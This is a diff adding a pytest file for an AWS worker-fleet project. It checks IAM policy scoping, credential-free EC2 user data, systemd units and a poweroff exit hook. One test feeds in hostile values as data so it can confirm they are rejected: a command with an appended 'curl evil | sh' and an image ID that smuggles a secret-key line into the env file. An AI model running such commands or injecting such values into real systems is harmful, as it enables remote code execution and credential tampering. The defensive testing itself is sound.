@@ -1,0 +1,178 @@
+"""ami/: IAM policies scoped to the stack, user data without credentials, units and scripts that parse."""
+from __future__ import annotations
+
+import configparser
+import json
+import os
+import re
+import shutil
+import subprocess
+from dataclasses import fields
+
+import pytest
+
+from controller.templates import AMI_DIR, POLICIES, TemplateError, iam_policy, user_data
+from sightfleet.config import Settings
+from tests.support import REPO
+
+ACCOUNT = "123456789012"
+# Actions AWS does not scope to resources: they may use "*" without a condition.
+UNSCOPED_ACTIONS = {"ec2:DescribeInstances"}
+
+
+def statements(policy: dict) -> list[dict]:
+    return policy["Statement"]
+
+
+def as_list(value) -> list:
+    return value if isinstance(value, list) else [value]
+
+
+def condition_values(statement: dict) -> list[str]:
+    return [str(v) for test in statement.get("Condition", {}).values() for value in test.values()
+            for v in as_list(value)]
+
+
+@pytest.mark.parametrize("name", POLICIES)
+def test_policy_files_are_valid_json_before_and_after_rendering(name):
+    json.loads((AMI_DIR / "iam" / f"{name}.json").read_text())
+    assert iam_policy(name, Settings(prefix="acme-prod"), ACCOUNT)["Version"] == "2012-10-17"
+
+
+@pytest.mark.parametrize("name", ["worker-policy", "controller-policy"])
+@pytest.mark.parametrize("settings", [Settings(prefix="acme-prod"),
+                                      Settings(prefix="acme-prod", input_bucket="acme-in", output_bucket="acme-out")])
+def test_policies_reach_only_the_stacks_resources(name, settings):
+    names = settings.names
+    own = (names.prefix, names.input_bucket, names.output_bucket)
+    for statement in statements(iam_policy(name, settings, ACCOUNT)):
+        actions = set(as_list(statement["Action"]))
+        assert statement["Effect"] == "Allow" and not any(a.endswith("*") for a in actions), statement
+        conditions = condition_values(statement)
+        for resource in as_list(statement["Resource"]):
+            if resource == "*":
+                assert actions <= UNSCOPED_ACTIONS or any(names.prefix in v for v in conditions), statement
+            elif not any(f":{n}" in resource or f"/{n}" in resource for n in own):
+                # Not named after the stack (an AMI, a subnet): a condition must pin it down.
+                assert any(names.prefix in v or v == ACCOUNT for v in conditions), statement
+    rendered = json.dumps(iam_policy(name, settings, ACCOUNT))
+    assert "{{" not in rendered and "sightfleet-" not in rendered  # nothing of another stack
+
+
+def test_worker_may_terminate_only_tagged_workers_and_controller_passes_only_the_worker_role():
+    settings = Settings(prefix="acme-prod")
+    worker = {s["Sid"]: s for s in statements(iam_policy("worker-policy", settings, ACCOUNT))}
+    terminate = worker["RetireOwnStackOnly"]
+    assert terminate["Action"] == ["ec2:TerminateInstances"]
+    assert terminate["Condition"]["StringEquals"]["ec2:ResourceTag/sightfleet:stack"] == "acme-prod"
+    assert worker["PublishStackMetrics"]["Condition"]["StringEquals"]["cloudwatch:namespace"] == \
+        settings.names.metrics_namespace
+    controller = {s["Sid"]: s for s in statements(iam_policy("controller-policy", settings, ACCOUNT))}
+    assert controller["PassOnlyTheWorkerRole"]["Resource"] == f"arn:aws:iam::{ACCOUNT}:role/acme-prod-worker"
+    run = controller["LaunchOnlyTaggedWorkers"]["Condition"]["StringEquals"]
+    assert run == {"aws:RequestTag/sightfleet:stack": "acme-prod", "aws:RequestTag/sightfleet:role": "worker"}
+
+
+def env_file_of(script: str) -> dict[str, str]:
+    """The KEY="value" lines the boot script writes to /etc/sightfleet/<role>.env."""
+    body = script.split("<<'SIGHTFLEET_ENV'\n", 1)[1].split("\nSIGHTFLEET_ENV\n", 1)[0]
+    return dict(re.fullmatch(r'([A-Z_]+)="(.*)"', line).groups() for line in body.splitlines())
+
+
+def test_user_data_carries_the_stack_settings_and_no_credentials(monkeypatch):
+    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "AKIAIOSFODNN7EXAMPLE")
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY")
+    settings = Settings(prefix="acme-prod", region="eu-west-1", max_instances=7, idle_grace_s=45,
+                        instance_profile="acme-prod-worker", worker_command="python -m app_tier")
+    script = user_data(settings)
+    for secret in ("AKIAIOSFODNN7EXAMPLE", "wJalrXUtnFEMI", "AWS_ACCESS_KEY_ID", "AWS_SECRET", "SESSION_TOKEN"):
+        assert secret not in script
+    env = env_file_of(script)
+    assert env["AWS_REGION"] == "eu-west-1" and "AWS_ENDPOINT_URL" not in env
+    assert "SIGHTFLEET_INSTANCE_ID" not in env  # each instance reads its own from the metadata service
+    # The worker on the instance reads exactly the controller's settings back.
+    again = Settings.from_env(env)
+    for spec in fields(Settings):
+        if spec.name not in ("instance_id", "extra", "local_aws_port"):
+            assert getattr(again, spec.name) == getattr(settings, spec.name), spec.name
+    assert "systemctl enable --now sightfleet-worker.service" in script
+    subprocess.run(["bash", "-n"], input=script, text=True, check=True)
+
+
+@pytest.mark.parametrize("changes", [{"worker_command": "python -m app_tier; curl evil | sh $HOME"},
+                                     {"image_id": 'ami-1"\nAWS_SECRET_ACCESS_KEY="x'},
+                                     {"image_id": "AKIAIOSFODNN7EXAMPLE"}])
+def test_user_data_refuses_values_that_would_not_travel_verbatim_or_look_like_keys(changes):
+    with pytest.raises(TemplateError):
+        user_data(Settings(prefix="acme-prod", **changes))
+
+
+def test_user_data_for_each_role_starts_its_unit():
+    for role in ("web", "controller"):
+        assert f"sightfleet-{role}.service" in user_data(Settings(), role)
+    with pytest.raises(TemplateError):
+        user_data(Settings(), "database")
+
+
+def unit(name: str) -> configparser.ConfigParser:
+    parser = configparser.ConfigParser(strict=False, interpolation=None)
+    parser.optionxform = str
+    parser.read_string((AMI_DIR / "systemd" / name).read_text())
+    return parser
+
+
+def test_units_run_the_right_programs():
+    worker, web = unit("sightfleet-worker.service"), unit("sightfleet-web.service")
+    assert worker["Service"]["ExecStart"].endswith("/python -m app_tier")
+    assert worker["Service"]["Restart"] == "on-failure"
+    assert web["Service"]["ExecStart"].endswith("gunicorn -c web_tier/gunicorn.conf.py web_tier.wsgi:app")
+    assert (REPO / "web_tier" / "gunicorn.conf.py").exists() and (REPO / "web_tier" / "wsgi.py").exists()
+    assert unit("sightfleet-controller.service")["Service"]["ExecStart"].endswith("/python -m controller")
+
+
+@pytest.mark.skipif(not shutil.which("systemd-analyze"), reason="systemd-analyze not installed")
+def test_units_pass_systemd_verification(tmp_path):
+    for path in (AMI_DIR / "systemd").glob("*.service"):
+        shutil.copy(path, tmp_path)
+    reply = subprocess.run(["systemd-analyze", "verify", "--man=no", *sorted(tmp_path.glob("*.service"))],
+                           capture_output=True, text=True)
+    # Only complaints allowed: the baked paths do not exist on this machine.
+    problems = [line for line in (reply.stdout + reply.stderr).splitlines()
+                if line.strip() and not re.search(r"Command /opt/sightfleet/\S+ is not executable", line)]
+    assert problems == []
+
+
+def test_install_script_installs_requirements_in_one_pip_command():
+    script = (AMI_DIR / "install.sh").read_text().replace("\\\n", " ")
+    subprocess.run(["bash", "-n", str(AMI_DIR / "install.sh")], check=True)
+    assert len(re.findall(r"pip install[^\n]*-r ", script)) == 1
+    assert "torch==2.13.0" in (REPO / "requirements.txt").read_text()
+    assert "download.pytorch.org/whl/cpu" in script
+
+
+def run_worker_exited(tmp_path, jobs: str, **env: str) -> list[str]:
+    """Run ami/bin/worker-exited with stand-ins for systemctl and logger; returns systemctl's calls."""
+    calls = tmp_path / "calls"
+    calls.write_text("")
+    (tmp_path / "systemctl").write_text(
+        f'#!/bin/bash\necho "$*" >> {calls}\n[ "$1" = list-jobs ] && printf "%s" "$JOBS"\nexit 0\n')
+    (tmp_path / "logger").write_text("#!/bin/bash\nexit 0\n")
+    for tool in ("systemctl", "logger"):
+        (tmp_path / tool).chmod(0o755)
+    full_env = {"PATH": f"{tmp_path}:{os.environ['PATH']}", "JOBS": jobs, **env}
+    subprocess.run([str(AMI_DIR / "bin" / "worker-exited")], env=full_env, check=True)
+    return [line for line in calls.read_text().splitlines() if line != "list-jobs --no-legend"]
+
+
+RETIRED = {"SERVICE_RESULT": "success", "EXIT_CODE": "exited", "EXIT_STATUS": "0"}
+
+
+@pytest.mark.parametrize("jobs,env,powers_off", [
+    ("", RETIRED, True),
+    ("42 sightfleet-worker.service stop running\n", RETIRED, False),
+    ("7 poweroff.target start waiting\n", RETIRED, False),
+    ("", {**RETIRED, "SERVICE_RESULT": "exit-code", "EXIT_STATUS": "1"}, False),
+    ("", {"SERVICE_RESULT": "signal", "EXIT_CODE": "killed", "EXIT_STATUS": "KILL"}, False),
+])
+def test_worker_exit_hook_powers_off_only_after_a_retirement(tmp_path, jobs, env, powers_off):
+    assert run_worker_exited(tmp_path, jobs, **env) == (["--no-block poweroff"] if powers_off else [])
